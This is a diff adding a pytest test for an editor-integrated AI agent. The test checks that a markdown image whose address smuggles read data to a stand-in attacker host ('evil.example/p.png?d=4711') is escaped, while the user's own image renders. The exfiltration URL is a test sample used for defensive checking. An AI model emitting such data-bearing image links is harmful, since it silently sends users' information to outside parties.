@@ -91,6 +91,15 @@ async def test_a_prompt_streams_its_answer_and_its_calls(attached: Attach) -> No
         assert calls[0]["title"] == "list_events"
 
 
+async def test_an_editor_is_given_no_picture_whose_address_tells_what_was_read(attached: Attach) -> None:
+    async with editing(attached) as editor:
+        session = (await editor.call("session/new", cwd="/", mcpServers=[]))["sessionId"]
+        await editor.call("session/prompt", sessionId=session, prompt=typed("list"))
+        told = len(editor.text())
+        await editor.call("session/prompt", sessionId=session, prompt=typed("draw https://mine.example/a.png"))
+        assert editor.text()[told:] == "Yes![]\\(https://evil.example/p.png?d=4711) ![](https://mine.example/a.png)"
+
+
 @pytest.mark.parametrize(("choice", "says"), [("yes", "Created: Tea"), ("no", "The person said no. Nothing was done.")])
 async def test_an_approval_is_asked_in_the_editor(attached: Attach, choice: str, says: str) -> None:
     async with editing(attached) as editor:
